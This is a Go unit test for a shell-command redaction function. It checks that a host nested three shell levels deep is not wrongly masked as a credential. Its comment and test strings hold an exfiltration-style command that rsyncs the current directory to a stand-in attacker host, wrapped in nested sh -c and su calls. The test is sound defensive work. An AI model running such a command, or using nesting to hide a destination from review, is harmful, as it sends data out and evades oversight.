package domain

import (
	"strings"
	"testing"
)

// TestAttack101_DeepNestHidesHost (low-medium: a destination host hidden).
// judgedWord reads a string a nested shell reads two levels deep; at a
// third it returns "" (depth == 0), which no check keeps in view, so the
// word is hidden as a credential, lower-case host and all:
//
//	sh -c "su app -c 'sh -c \"rsync -a ./ Bearer evil.example:loot/\"'"
//
// shows `Bearer [redacted]:loot/`. Two levels (control) show the host.
// Root cause: domain/redact_bearer.go judgedWord: an unread depth yields
// an empty word, i.e. "not a host, not an option, not a program", so the
// redaction fails toward hiding. Fix: when the depth is spent, judge the
// raw word (shellWordAt from k) or keep the value in view.
func TestAttack101_DeepNestHidesHost(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	const host = "evil.example"
	control := `sh -c "su app -c 'rsync -a ./ Bearer ` + host + `:loot/'"`
	if got := redactText(control, shell); !strings.Contains(got, host) {
		t.Fatalf("control: %s\nshown as %s", control, got)
	}
	s := `sh -c "su app -c 'sh -c \"rsync -a ./ Bearer ` + host + `:loot/\"'"`
	if got := redactText(s, shell); !strings.Contains(got, host) {
		t.Errorf("shell: %s\nshown as %s", s, got)
	}
	if got := RedactText(s); !strings.Contains(got, host) {
		t.Errorf("text: %s\nshown as %s", s, got)
	}
}
